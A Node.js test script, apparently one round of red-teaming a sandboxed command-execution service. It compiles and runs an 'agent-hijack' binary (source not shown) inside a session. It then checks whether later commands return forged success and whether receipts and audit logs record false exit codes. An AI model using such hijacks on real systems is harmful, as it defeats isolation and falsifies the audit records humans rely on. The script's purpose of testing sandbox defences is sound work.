'use strict';
// Round 5: one session command takes over the exec agent (agent-hijack.c);
// every later command's result is then forged and nothing runs.
// `node agent-hijack.js` as root, after `npm run build`; prints OPEN when it works.
const { execFileSync } = require('node:child_process');
const fs = require('node:fs');
const os = require('node:os');
const path = require('node:path');
const { manager, withTimeout } = require('./session-common');

async function main() {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cordon-r5-bin-'));
  const bin = path.join(dir, 'agent-hijack');
  execFileSync('cc', ['-static', '-O1', '-o', bin, path.join(__dirname, 'agent-hijack.c')]);
  const m = manager();
  const s = await m.sessions.acquire({ tenant: 't', conversation: 'hijack' }, { id: 'a' });
  await s.writeFile('agent-hijack', fs.readFileSync(bin));
  const r = await s.exec({ shell: 'bash', script: 'chmod +x agent-hijack && ./agent-hijack' });
  console.log('attack command:', r.exitCode, r.stderr);
  await new Promise((res) => setTimeout(res, 2500));
  console.log('hijack.log (host readFile):', (await s.readFile('hijack.log').catch((e) => e.code)).toString());
  // The agent's own pending read(3) takes this frame; the injected code answers it too.
  const t0 = Date.now();
  const lost = await withTimeout(s.exec(['/bin/true'], { timeoutMs: 3000 }), 20000);
  console.log('exec /bin/true (timeoutMs 3000) →', lost.settled ? JSON.stringify(lost.value ?? lost.error.code) + ` after ${Date.now() - t0} ms` : 'DID NOT SETTLE within 20 s');
  const a = await withTimeout(s.exec(['/bin/false']), 10000);
  console.log('exec /bin/false →', a.settled ? JSON.stringify(a.value ?? a.error.code) : 'no settle');
  const b = await withTimeout(s.exec({ shell: 'bash', script: 'echo REAL > proof.txt; cat /etc/hostname' }), 10000);
  console.log('exec echo REAL > proof.txt →', b.settled ? JSON.stringify(b.value ?? b.error.code) : 'no settle');
  const proof = await s.readFile('proof.txt').then((x) => x.toString(), (e) => e.code);
  console.log('proof.txt (written if the command really ran):', JSON.stringify(proof));
  const rec = await s.end();
  console.log('receipt commands:', JSON.stringify(rec.commands.map((c) => [c.exitCode, c.outputBytes])), 'endReason', rec.endReason);
  console.log('audit exec records:', JSON.stringify(m.audits.filter((x) => x.operation === 'exec').map((x) => [x.command, x.exitCode, x.bytes])));
  const forged = a.value && a.value.exitCode === 0 && /forged/.test(a.value.stdout) && b.value && /forged/.test(b.value.stdout) && proof !== 'REAL\n';
  console.log(forged ? 'OPEN: later commands forged (exit 0, "forged"), nothing ran, the receipt records exit 0' : 'held');
  m.cleanup();
  fs.rmSync(dir, { recursive: true, force: true });
  process.exit(0);
}
main().catch((e) => { console.error(e); process.exit(1); });
